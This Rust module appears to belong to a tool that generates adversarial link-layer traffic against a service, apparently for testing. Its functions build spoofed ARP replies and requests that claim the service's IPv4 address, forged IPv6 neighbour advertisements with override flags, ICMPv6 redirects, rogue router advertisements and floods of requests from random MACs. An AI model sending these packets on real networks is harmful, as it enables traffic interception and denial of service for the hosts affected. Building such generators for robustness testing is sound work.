//! Attacks on who is where: ARP and neighbour discovery.

use std::net::{Ipv4Addr, Ipv6Addr};

use smoltcp::wire::{ArpOperation, EthernetAddress, IpAddress};

use super::build::{ALL_NODES, NO_MAC, arp, discovery, group, ndp, solicited_node};
use super::target::{Aim, Station, strange_mac};

/// The flags of an advertisement (RFC 4861 §4.4).
const ROUTER: u32 = 1 << 31;
const SOLICITED: u32 = 1 << 30;
const OVERRIDE: u32 = 1 << 29;

/// The service address is at the attacker's, says ARP.
pub(super) fn arp_claim(aim: &mut Aim<'_>) -> Option<Vec<u8>> {
    let (service_mac, service) = aim.service_v4()?;
    let (mac, all) = (aim.mac, EthernetAddress::BROADCAST);
    let (claim, stranger) = ((mac, service), aim.stranger(service.into()));
    let IpAddress::Ipv4(stranger) = stranger.address else { return None };
    Some(match aim.variant(6) {
        0 => arp((mac, all), ArpOperation::Request, claim, (NO_MAC, service)),
        1 => arp((mac, all), ArpOperation::Reply, claim, claim),
        2 => {
            let to = aim.rng.choice(&aim.memory.stations).copied().unwrap_or(all);
            arp((mac, to), ArpOperation::Reply, claim, (to, stranger))
        }
        3 => {
            let node = aim.node();
            let target = match node.address {
                IpAddress::Ipv4(address) => address,
                IpAddress::Ipv6(_) => Ipv4Addr::UNSPECIFIED,
            };
            arp((mac, node.mac), ArpOperation::Reply, claim, (node.mac, target))
        }
        4 => arp((mac, all), ArpOperation::Request, claim, (service_mac, stranger)),
        _ => {
            let mac = aim.victims.lookalike();
            arp((mac, all), ArpOperation::Request, (mac, service), (NO_MAC, service))
        }
    })
}

/// The service address is at the attacker's, says neighbour discovery.
pub(super) fn na_claim(aim: &mut Aim<'_>) -> Option<Vec<u8>> {
    let (service_mac, service) = aim.service_v6()?;
    let own = Station { mac: aim.mac, address: aim.link_local().into() };
    let thief = Station { mac: aim.mac, address: service.into() };
    let target_mac = Some((ndp::TARGET_MAC, aim.mac));
    let source_mac = Some((ndp::SOURCE_MAC, aim.mac));
    let advert = |from, to, flags| discovery((from, to), ndp::ADVERT, flags, service, target_mac);
    Some(match aim.variant(7) {
        0 => advert(thief, group(ALL_NODES), OVERRIDE),
        1 => advert(own, group(ALL_NODES), ROUTER | OVERRIDE),
        2 => {
            let mac = aim.rng.choice(&aim.memory.stations).copied().unwrap_or(service_mac);
            let someone = Station { mac, address: aim.stranger(service.into()).address };
            advert(thief, someone, SOLICITED | OVERRIDE)
        }
        3 => advert(thief, Station { mac: service_mac, ..thief }, SOLICITED),
        4 => {
            let asked = solicited_node(aim.link_local());
            discovery((thief, asked), ndp::SOLICIT, 0, aim.link_local(), source_mac)
        }
        5 => redirect((own, group(ALL_NODES)), service),
        _ => router_advert(own, aim.mac),
    })
}

/// Is the service address free? Asked by somebody who has none yet.
pub(super) fn probe(aim: &mut Aim<'_>) -> Option<Vec<u8>> {
    let nobody = Station { mac: aim.mac, address: Ipv6Addr::UNSPECIFIED.into() };
    match aim.variant(4) {
        0 => {
            let (_, service) = aim.service_v4()?;
            Some(arp_probe(aim.mac, EthernetAddress::BROADCAST, service))
        }
        1 => {
            let (_, service) = aim.service_v6()?;
            let ends = (nobody, solicited_node(service));
            Some(discovery(ends, ndp::SOLICIT, 0, service, None))
        }
        2 => {
            let (service_mac, service) = aim.service_v4()?;
            Some(arp_probe(strange_mac(aim.rng.u16(..)), service_mac, service))
        }
        // To the address itself, and with the option that it must not have (RFC 4861 §4.3).
        _ => {
            let (mac, service) = aim.service_v6()?;
            let ends = (nobody, Station { mac, address: service.into() });
            let option = Some((ndp::SOURCE_MAC, aim.mac));
            Some(discovery(ends, ndp::SOLICIT, 0, service, option))
        }
    }
}

/// Where is the service address, or a node? Asked by ever new strangers.
pub(super) fn ask(aim: &mut Aim<'_>) -> Option<Vec<u8>> {
    let strange = strange_mac(aim.rng.u16(..));
    match aim.variant(5) {
        0 => {
            let (_, service) = aim.service_v4()?;
            Some(arp_request(aim, strange, EthernetAddress::BROADCAST, service))
        }
        1 => {
            let (mac, service) = aim.service_v4()?;
            Some(arp_request(aim, strange, mac, service))
        }
        2 => {
            let node = aim.node();
            let IpAddress::Ipv4(address) = node.address else { return None };
            Some(arp_request(aim, strange, EthernetAddress::BROADCAST, address))
        }
        3 => {
            let (_, service) = aim.service_v6()?;
            let from = Station { mac: strange, ..aim.stranger(service.into()) };
            let ends = (from, solicited_node(service));
            let option = Some((ndp::SOURCE_MAC, strange));
            Some(discovery(ends, ndp::SOLICIT, 0, service, option))
        }
        _ => {
            let (mac, service) = aim.service_v6()?;
            let from = Station { mac: strange, ..aim.stranger(service.into()) };
            let ends = (from, Station { mac, address: service.into() });
            Some(discovery(ends, ndp::SOLICIT, 0, service, None))
        }
    }
}

/// How a client asks before its first packet: the service then knows where it is.
pub(super) fn introduction(client: Station, service: Station) -> Option<Vec<u8>> {
    match (client.address, service.address) {
        (IpAddress::Ipv4(from), IpAddress::Ipv4(to)) => {
            let ends = (client.mac, EthernetAddress::BROADCAST);
            Some(arp(ends, ArpOperation::Request, (client.mac, from), (NO_MAC, to)))
        }
        (IpAddress::Ipv6(_), IpAddress::Ipv6(to)) => {
            let option = Some((ndp::SOURCE_MAC, client.mac));
            Some(discovery((client, solicited_node(to)), ndp::SOLICIT, 0, to, option))
        }
        (IpAddress::Ipv4(_), IpAddress::Ipv6(_)) | (IpAddress::Ipv6(_), IpAddress::Ipv4(_)) => None,
    }
}

fn arp_request(
    aim: &mut Aim<'_>,
    mac: EthernetAddress,
    to: EthernetAddress,
    target: Ipv4Addr,
) -> Vec<u8> {
    let sender = match aim.stranger(target.into()).address {
        IpAddress::Ipv4(address) => address,
        IpAddress::Ipv6(_) => Ipv4Addr::UNSPECIFIED,
    };
    arp((mac, to), ArpOperation::Request, (mac, sender), (NO_MAC, target))
}

/// RFC 5227 §2.1.
fn arp_probe(mac: EthernetAddress, to: EthernetAddress, target: Ipv4Addr) -> Vec<u8> {
    arp((mac, to), ArpOperation::Request, (mac, Ipv4Addr::UNSPECIFIED), (NO_MAC, target))
}

/// The way to `destination` is by the sender (RFC 4861 §4.5).
fn redirect(ends: (Station, Station), destination: Ipv6Addr) -> Vec<u8> {
    let by = match ends.0.address {
        IpAddress::Ipv6(address) => address,
        IpAddress::Ipv4(_) => Ipv6Addr::UNSPECIFIED,
    };
    let mut message = vec![ndp::REDIRECT, 0, 0, 0, 0, 0, 0, 0];
    message.extend_from_slice(&by.octets());
    message.extend_from_slice(&destination.octets());
    message.extend_from_slice(&[ndp::TARGET_MAC, 1]);
    message.extend_from_slice(ends.0.mac.as_bytes());
    super::build::packet(ends, smoltcp::wire::IpProtocol::Icmpv6, 255, message)
}

/// The sender is a router, for half an hour (RFC 4861 §4.2).
pub(super) fn router_advert(router: Station, mac: EthernetAddress) -> Vec<u8> {
    let [high, low] = 1800_u16.to_be_bytes();
    let mut message = vec![ndp::ROUTER_ADVERT, 0, 0, 0, 64, 0, high, low];
    message.extend_from_slice(&[0; 8]);
    message.extend_from_slice(&[ndp::SOURCE_MAC, 1]);
    message.extend_from_slice(mac.as_bytes());
    super::build::packet(
        (router, group(ALL_NODES)),
        smoltcp::wire::IpProtocol::Icmpv6,
        255,
        message,
    )
}
